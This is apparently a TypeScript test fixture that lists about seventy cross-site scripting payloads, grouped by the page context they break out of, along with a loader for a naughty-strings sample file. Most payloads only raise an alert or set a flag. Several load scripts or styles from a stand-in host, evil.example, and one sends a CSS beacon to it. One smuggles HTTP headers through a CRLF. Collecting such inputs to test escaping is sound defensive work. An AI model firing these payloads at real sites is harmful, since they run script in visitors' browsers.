/** Texts that run as script wherever a page, a mail or a drawing forgets to write them as text. Each calls for a dialog or leaves `pwned`. */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'

const run = 'window.pwned=1;alert(1)'

/** Our own, by the place in a page that they try to break out of. */
export const ownScripts: readonly string[] = [
  // As an element.
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror="${run}">`,
  `<img/src=x/onerror=${run}>`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<details open ontoggle="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<audio src=x onerror="${run}"></audio>`,
  `<body onload="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<marquee onstart="${run}">`,
  `<form action="javascript:${run}"><button autofocus>x`,
  `<a href="javascript:${run}">x</a>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  `<meta http-equiv="refresh" content="0;url=//evil.example/">`,
  `<link rel=stylesheet href="//evil.example/x.css">`,
  `<style>@import '//evil.example/x.css';body{display:none}</style>`,
  `<style>*{background:url(//evil.example/leak)}</style>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<xss style="animation-name:x" onanimationstart="${run}">`,
  // Out of an attribute.
  `" onmouseover="${run}" autofocus onfocus="${run}" x="`,
  `' onmouseover='${run}' autofocus onfocus='${run}' x='`,
  `"><script>${run}</script>`,
  `'><img src=x onerror=${run}>`,
  '` onmouseover=`' + run + '`',
  `x onerror=${run}`,
  `"><svg/onload=${run}>`,
  `&quot;&gt;&lt;script&gt;${run}&lt;/script&gt;`,
  `&#34;&#62;&#60;img src=x onerror=${run}&#62;`,
  // Out of what holds text.
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `</text></svg><img src=x onerror=${run}>`,
  `</pre><img src=x onerror=${run}>`,
  `</iframe><script>${run}</script>`,
  // Into an address.
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `javascript://shop.example/%0a${run}`,
  `data:text/html,<script>${run}</script>`,
  `https://shop.example/"onmouseover="${run}`,
  `https://shop.example/<script>${run}</script>`,
  '//evil.example/x',
  // Into a template, a script, a style, or a header.
  '{{constructor.constructor("' + run + '")()}}',
  '${' + run + '}',
  `<%= ${run} %>`,
  `';${run};//`,
  `";${run};//`,
  `\\";${run};//`,
  `\u2028${run}\u2029`,
  `expression(${run})`,
  `red;background:url(javascript:${run})`,
  `x\r\nContent-Type: text/html\r\n\r\n<script>${run}</script>`,
  // Disguised.
  `<scr\u0000ipt>${run}</scr\u0000ipt>`.replaceAll('\u0000', ''),
  `＜script＞${run}＜/script＞`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `<\u202escript>${run}</script>`,
  `[x](javascript:${run})`,
  `![x](x "onerror=${run}")`,
]

/** The big list of naughty strings, where the sample data is at hand. */
export function naughtyStrings(): string[] {
  const samples = process.env['RECOURSE_SAMPLES']
  if (!samples) return []
  const parsed: unknown = JSON.parse(readFileSync(join(samples, 'bad-input/blns.json'), 'utf8'))
  return Array.isArray(parsed) ? parsed.filter((one) => typeof one === 'string') : []
}
